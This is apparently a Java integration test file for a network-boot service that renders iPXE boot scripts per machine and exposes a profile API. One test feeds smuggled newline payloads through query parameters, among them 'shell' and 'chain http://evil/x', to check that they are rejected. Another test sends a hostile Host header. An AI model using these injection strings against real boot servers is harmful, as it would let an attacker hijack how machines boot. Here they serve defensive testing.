package io.chainboot.script.boot;

import io.chainboot.events.BootEvent;
import io.chainboot.events.DiskKind;
import io.chainboot.events.MacAddress;
import io.chainboot.events.MachineSpec;
import io.chainboot.events.ScriptEvents;
import io.chainboot.script.testing.FixedMachines;
import io.chainboot.common.testing.RecordingPublisher;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.time.Instant;
import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

/** /boot.ipxe and the profile API over real HTTP, with the machine directory and publisher replaced. */
@QuarkusTest
class BootScriptRouteTest {
    static final MacAddress WS01 = MacAddress.parse("52:54:00:aa:00:01");
    static final MacAddress LAB = MacAddress.parse("52:54:00:aa:00:02");
    static final MacAddress GHOST = MacAddress.parse("52:54:00:aa:00:03");

    @Inject
    FixedMachines machines;
    @Inject
    RecordingPublisher events;

    @BeforeEach
    void setUp() {
        machines.clear();
        events.clear();
        machines.put(new MachineSpec(WS01, "8a3c1f2e-1111-2222-3333-444455556666", "ws01", null, "sanboot", Map.of(),
                Map.of(), new MachineSpec.DiskAssignment(DiskKind.OVERLAY, "win11", null), null, true, null, Instant.EPOCH));
        machines.put(new MachineSpec(LAB, null, "lab07", null, null, Map.of("room", "lab"), Map.of(), null, null, true, null, Instant.EPOCH));
        machines.put(new MachineSpec(GHOST, null, null, null, "no-such-profile", Map.of(), Map.of(), null, null, true, null, Instant.EPOCH));
    }

    static Response boot(String query) {
        return given().urlEncodingEnabled(false).get("/boot.ipxe?" + query);
    }

    @Test
    void whileTheMachineViewLoadsTheRequestIsHeldAndAnsweredFromTheLoadedView() throws Exception {
        machines.loaded(false);
        java.util.concurrent.CompletableFuture<Response> r = java.util.concurrent.CompletableFuture.supplyAsync(
                () -> boot("mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=pcbios"));
        Thread.sleep(800);
        assertThat(r).as("held while loading").isNotDone();
        assertThat(events.events()).as("no decision while loading").isEmpty();
        machines.loaded(true);
        assertThat(r.get(10, java.util.concurrent.TimeUnit.SECONDS).asString())
                .contains("# Chainboot profile sanboot for 52:54:00:aa:00:01\n");
        assertThat(events.events()).hasSize(1);
    }

    @Test
    void aViewThatStaysUnloadedGetsAScriptThatFetchesTheSameUrlAgain() {
        machines.loaded(false);
        Response r = boot("mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=pcbios");
        r.then().statusCode(200);
        assertThat(r.asString()).matches("#!ipxe\n"
                + "echo Chainboot is still loading its machines: trying again in 3 s\n"
                + "sleep 3\n"
                + "chain --replace --autofree http://[^/\\s]+/boot\\.ipxe\\?mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=pcbios\n");
        assertThat(events.events()).as("no decision, no event").isEmpty();
    }

    @Test
    void aKnownMachineGetsItsSanbootScriptAndARenderedEvent() {
        Response r = boot("mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=pcbios&manufacturer=QEMU&serial=");
        r.then().statusCode(200).contentType("text/plain").header("cache-control", "no-store");
        assertThat(r.asString()).startsWith("#!ipxe\n# Chainboot profile sanboot for 52:54:00:aa:00:01\n")
                .contains("\nset initiator-iqn iqn.2026-01.io.chainboot:initiator:52-54-00-aa-00-01\n")
                .contains("\nsanboot iscsi:10.0.2.2::9:0:iqn.2026-01.io.chainboot:ws01 || goto failed\n");
        List<BootEvent> sent = events.events();
        assertThat(sent).hasSize(1);
        ScriptEvents.Rendered e = (ScriptEvents.Rendered) sent.get(0);
        assertThat(e.mac()).isEqualTo(WS01);
        assertThat(e.profile()).isEqualTo("sanboot");
        assertThat(e.arch()).isEqualTo("x86_64");
        assertThat(e.platform()).isEqualTo("pcbios");
        assertThat(e.uuid()).isNull();
        assertThat(e.source().service()).isEqualTo("script-service");
        assertThat(e.ip()).hasToString("127.0.0.1");
        assertThat(e.durationMicros()).isNotNegative();
        assertThat(e.attachesSan()).as("a sanboot script logs in to the disk").isTrue();
    }

    @Test
    void aChangedMachineSpecChangesTheNextScript() {
        assertThat(boot("mac=52-54-00-aa-00-01").asString()).contains(":ws01 || goto failed\n");
        machines.put(new MachineSpec(WS01, null, "ws02", null, "sanboot", Map.of(), Map.of(),
                new MachineSpec.DiskAssignment(DiskKind.OVERLAY, "win11", null), null, true, null, Instant.EPOCH));
        assertThat(boot("mac=52-54-00-aa-00-01").asString()).contains(":ws02 || goto failed\n");
        assertThat(events.events()).hasSize(2);
    }

    @Test
    void theUuidFindsTheMachineWhenTheMacIsNew() {
        String body = boot("mac=52-54-00-ff-ff-ff&uuid=8A3C1F2E-1111-2222-3333-444455556666&platform=efi").asString();
        assertThat(body).contains("\nsanboot iscsi:10.0.2.2::9:0:iqn.2026-01.io.chainboot:ws01 || goto failed\n");
    }

    @Test
    void labelSelectorsPickAProfileFromTheProfilesDirectory() {
        String body = boot("mac=52:54:00:aa:00:02&platform=efi").asString();
        assertThat(body).startsWith("#!ipxe\n# Chainboot profile debian for 52:54:00:aa:00:02\n")
                .contains("/assets/debian/linux auto=true priority=critical hostname=lab07 || goto failed\n");
    }

    @Test
    void anUnknownMachineGetsTheDefaultMenu() {
        String body = boot("mac=52-54-00-00-00-99&platform=efi").asString();
        assertThat(body).startsWith("#!ipxe\n# Chainboot profile menu for 52:54:00:00:00:99\n:start\nmenu Chainboot: 52-54-00-00-00-99\n");
        assertThat(((ScriptEvents.Rendered) events.events().get(0)).profile()).isEqualTo("menu");
        assertThat(((ScriptEvents.Rendered) events.events().get(0)).attachesSan()).as("a menu logs in to nothing").isFalse();
    }

    @Test
    void aMissingProfileAnswers200WithAnErrorScriptAndAFailedEvent() {
        Response r = boot("mac=52-54-00-aa-00-03");
        r.then().statusCode(200).contentType("text/plain");
        assertThat(r.asString()).startsWith("#!ipxe\necho Chainboot could not prepare a boot script for 52:54:00:aa:00:03:\n"
                + "echo profile ?no-such-profile? (machine) does not exist\necho Retrying in 10 seconds\nsleep 10\n"
                + "chain --replace --autofree http://localhost:");
        ScriptEvents.Failed f = (ScriptEvents.Failed) events.events().get(0);
        assertThat(f.mac()).isEqualTo(GHOST);
        assertThat(f.profile()).isEqualTo("no-such-profile");
        assertThat(f.reason()).isEqualTo("profile 'no-such-profile' (machine) does not exist");
    }

    @Test
    void noMacIsAnErrorScriptToo() {
        Response r = boot("uuid=x");
        r.then().statusCode(200);
        assertThat(r.asString()).startsWith("#!ipxe\necho Chainboot could not prepare a boot script for this machine:\n"
                + "echo the request has no mac parameter\n");
        ScriptEvents.Failed f = (ScriptEvents.Failed) events.events().get(0);
        assertThat(f.mac()).isNull();
        assertThat(f.key()).isEqualTo("127.0.0.1");
    }

    @Test
    void injectionThroughTheQueryFails() {
        for (String q : new String[]{"mac=52-54-00-aa-00-01&hostname=ws01%0Ashell",
                "mac=52-54-00-aa-00-01&arch=x86_64%0Achain%20http://evil/x",
                "mac=52-54-00-aa-00-01%0Ashell",
                "mac=52-54-00-aa-00-01&uuid=$%7Broot-path%7D",
                "mac=52-54-00-aa-00-01&profile=local%0Ashell"}) {
            Response r = boot(q);
            r.then().statusCode(200);
            String body = r.asString();
            assertThat(body).as(q).startsWith("#!ipxe\necho Chainboot could not prepare a boot script")
                    .doesNotContain("\nshell").doesNotContain("evil").doesNotContain("root-path");
        }
        assertThat(events.events()).hasSize(5).allMatch(e -> e instanceof ScriptEvents.Failed);
    }

    @Test
    void aScriptFetchedOverIpv6GetsTheIpv6IscsiServerInBrackets() {
        String body = given().header("Host", "[fd00::22]:8081").urlEncodingEnabled(false)
                .get("/boot.ipxe?mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=efi&manufacturer=QEMU&serial=").asString();
        assertThat(body).contains("\nsanboot iscsi:[fd00::22]::9:0:iqn.2026-01.io.chainboot:ws01 || goto failed\n");
        assertThat(boot("mac=52-54-00-aa-00-01&uuid=&arch=x86_64&platform=efi&manufacturer=QEMU&serial=").asString())
                .as("over IPv4: iscsi-server").contains("\nsanboot iscsi:10.0.2.2::9:0:iqn.2026-01.io.chainboot:ws01 || goto failed\n");
    }

    @Test
    void aMaliciousHostHeaderIsNotWrittenIntoTheScript() {
        String body = given().header("Host", "evil_host").get("/boot.ipxe?mac=52-54-00-00-00-99").asString();
        assertThat(body).doesNotContain("evil").contains("\nchain --replace --autofree boot.ipxe?mac=${mac:hexhyp}&");
    }

    @Test
    void previewRendersTheSameScriptWithoutAnEvent() {
        String booted = boot("mac=52-54-00-aa-00-01&platform=efi").asString();
        events.clear();
        Response r = given().get("/api/preview/52:54:00:aa:00:01?platform=efi");
        r.then().statusCode(200).contentType("text/plain").header("X-Chainboot-Profile", "sanboot")
                .header("X-Chainboot-Chosen-By", "machine").header("X-Chainboot-Machine", "known");
        assertThat(r.asString()).isEqualTo(booted);
        given().get("/api/preview/52:54:00:aa:00:03").then().statusCode(200)
                .header("X-Chainboot-Failure", "profile 'no-such-profile' (machine) does not exist");
        given().get("/api/preview/not-a-mac").then().statusCode(400).contentType("application/problem+json")
                .body("type", equalTo("urn:chainboot:problem:invalid-field"));
        assertThat(events.events()).isEmpty();
    }

    /** A caller holding the cluster secret of src/test/resources/application.properties. */
    static io.restassured.specification.RequestSpecification admin() {
        return given().header("Authorization", "Bearer cluster-secret-for-tests");
    }

    @Test
    void profileApiListsValidatesAndReloads() {
        given().get("/api/profiles").then().statusCode(200)
                .body("profiles.name", hasItem("debian")).body("profiles.name", hasItem("menu"))
                .body("problems.size()", equalTo(0));
        given().get("/api/profiles/debian").then().statusCode(200).body("kind", equalTo("linux"))
                .body("selector.room", equalTo("lab"));
        given().get("/api/profiles/nope").then().statusCode(404).contentType("application/problem+json")
                .body("detail", equalTo("no profile nope"));
        admin().contentType("application/yaml").body("name: x\nkind: chain\nparams: {url: 'https://boot.netboot.xyz'}\n".getBytes())
                .post("/api/profiles/validate").then().statusCode(200).body("valid", equalTo(true)).body("profile.kind", equalTo("chain"));
        admin().contentType("text/plain").body("name: x\nkind: chain\n")
                .post("/api/profiles/validate").then().statusCode(422).contentType("application/problem+json")
                .body("type", equalTo("urn:chainboot:problem:invalid-document"))
                .body("detail", equalTo("profile x: kind chain needs params.url"));
        admin().post("/api/profiles/reload").then().statusCode(200).body("profiles.name", hasItem("debian"));
        given().get("/q/openapi").then().statusCode(200);
    }
}
